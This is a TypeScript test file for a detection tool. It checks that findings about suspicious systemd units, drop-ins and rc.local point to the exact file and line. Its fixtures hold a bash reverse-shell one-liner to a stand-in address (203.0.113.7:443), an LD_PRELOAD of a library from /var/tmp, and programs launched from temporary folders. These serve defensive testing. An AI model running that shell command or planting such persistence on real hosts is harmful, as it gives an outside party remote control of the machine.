import { describe, expect, it } from 'vitest';
import { BUILT_IN_RULES } from '../../main/detect/built-in-rules.ts';
import { loadFilteredRules } from '../../main/detect/rule-set.ts';
import { memoryEvidence } from '../../main/evidence/memory-evidence.ts';
import type { Finding } from '../../shared/model/finding.ts';
import { runTriage } from '../support/run-triage.ts';
import { unixTree } from '../support/unix-fixture.ts';

const RULES = { ...loadFilteredRules(BUILT_IN_RULES, []), correlations: [], sha256: '' };
const SHELL = 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1';

async function findings(files: Readonly<Record<string, string>>): Promise<readonly Finding[]> {
  const evidence = memoryEvidence(unixTree('linux', { name: 'a host', files }));
  return (await runTriage(evidence, [], { rules: RULES })).findings;
}

/** Of each finding of that rule its sentence, and where it points to first: path, line. */
function told(all: readonly Finding[], rule: string): { why: string; place: string }[] {
  return all
    .filter((finding) => finding.rule === rule)
    .map(({ why, evidence: [first] }) => ({
      why,
      place: `${first?.path}:${first?.locator.kind === 'line' ? first.locator.line : '-'}`,
    }));
}

describe('a finding points to what it is about', () => {
  it('to the line of the script, not to that of the unit that starts it', async () => {
    const all = await findings({
      '/etc/systemd/system/a.service': '[Service]\nExecStart=/opt/a.sh\n',
      '/opt/a.sh': `#!/bin/sh\n# starts\n\necho on\n${SHELL}\n`,
    });
    const [one] = told(all, 'unit_script_joins_shell_to_connection');
    expect(one?.place).toBe('/opt/a.sh:5');
    const finding = all.find(({ rule }) => rule === 'unit_script_joins_shell_to_connection');
    expect(finding?.evidence.map(({ path }) => path)).toContain('/etc/systemd/system/a.service');
  });

  it('to the command among many, and names that one', async () => {
    const all = await findings({
      '/etc/systemd/system/a.service': `[Service]\nExecStartPre=/bin/sh -c "true"\nExecStart=/bin/sleep 1\nExecStopPost=/bin/sh -c "${SHELL}"\n`,
    });
    const [one] = told(all, 'unit_command_uses_dev_tcp');
    expect(one?.place).toBe('/etc/systemd/system/a.service:4');
    expect(one?.why).toContain('/dev/tcp/');
    expect(one?.why).not.toContain('/bin/sleep');
  });

  it('to the line of the drop-in that says it', async () => {
    const all = await findings({
      '/usr/lib/systemd/system/a.service': '[Unit]\nDescription=a\n[Service]\nExecStart=/bin/sleep 1\n',
      '/etc/systemd/system/a.service.d/x.conf':
        '# none\n[Service]\nNice=5\nEnvironment=LD_PRELOAD=/var/tmp/x.so\n',
    });
    const [one] = told(all, 'unit_preloads_library_in_odd_folder');
    expect(one?.place).toBe('/etc/systemd/system/a.service.d/x.conf:4');
  });

  it('to the line of rc.local', async () => {
    const all = await findings({ '/etc/rc.local': '#!/bin/sh\n/usr/sbin/fine\n/var/tmp/x &\nexit 0\n' });
    const [one] = told(all, 'unit_program_in_temporary_folder');
    expect(one?.place).toBe('/etc/rc.local:3');
    expect(one?.why).toContain('/var/tmp/x');
    expect(one?.why).not.toContain('/usr/sbin/fine');
  });

  it('to the unit as a whole where no single part says it', async () => {
    const all = await findings({
      '/etc/systemd/system/a.timer': '[Unit]\nDescription=a\n[Timer]\nOnBootSec=1\n',
      '/etc/systemd/system/a.service': '[Service]\nExecStart=/tmp/x\n',
    });
    expect(told(all, 'unit_program_in_temporary_folder').map(({ place }) => place)).toEqual([
      '/etc/systemd/system/a.service:2',
    ]);
  });
});
